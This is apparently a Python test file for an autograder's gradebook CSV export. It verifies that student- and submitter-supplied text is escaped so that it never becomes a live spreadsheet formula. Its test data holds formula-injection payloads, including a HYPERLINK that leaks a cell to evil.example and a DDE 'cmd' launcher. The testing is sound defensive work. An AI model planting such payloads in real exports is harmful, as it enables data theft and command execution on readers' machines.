"""The gradebook CSV: text from submitters and students never becomes a live spreadsheet formula."""

from __future__ import annotations

import csv
from pathlib import Path

from autograder.batch import gradebook
from autograder.batch.analysis import Record
from autograder.batch.export import Submitter
from autograder.batch.submissions import Submission

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _record(student: str, name: str, email: str, sid: str) -> Record:
    data = {"score": 1.5, "execution_time": 1.0, "output": "",
            "tests": [{"name": "tests/public/test_a.py::test_a", "score": 1.5, "max_score": 2.0, "status": "failed",
                       "output": "=1+1 is wrong"}],
            "extra_data": {"status": "graded", "max_score": 2.0}}
    submission = Submission(student=student, path=Path("/nonexistent") / student, name=f"=submission_{student}",
                            submitters=(Submitter(name=name, sid=sid, email=email),))
    return Record(submission=submission, data=data)


def test_formulas_in_text_cells_are_escaped_and_numbers_stay_numbers(tmp_path):
    records = [_record(f"s{i}", text, text, "-1815" if i == 0 else text) for i, text in enumerate(HOSTILE)]
    path = tmp_path / "gradebook.csv"
    gradebook.write_csv(gradebook.build(records, points=2.0, export=True), path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE):
        assert row["name"] == row["email"] == ("'" + text).replace("\r", "\n")  # a "\r" would start a row
        assert row["submission"].startswith("'=submission_")
        assert row["total"] == "1.5" and row["max_score"] == "2"
    assert rows[0]["sid"] == "-1815"  # a plain number is no formula
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(tuple("=+@\t\r")) for cell in cells), cells
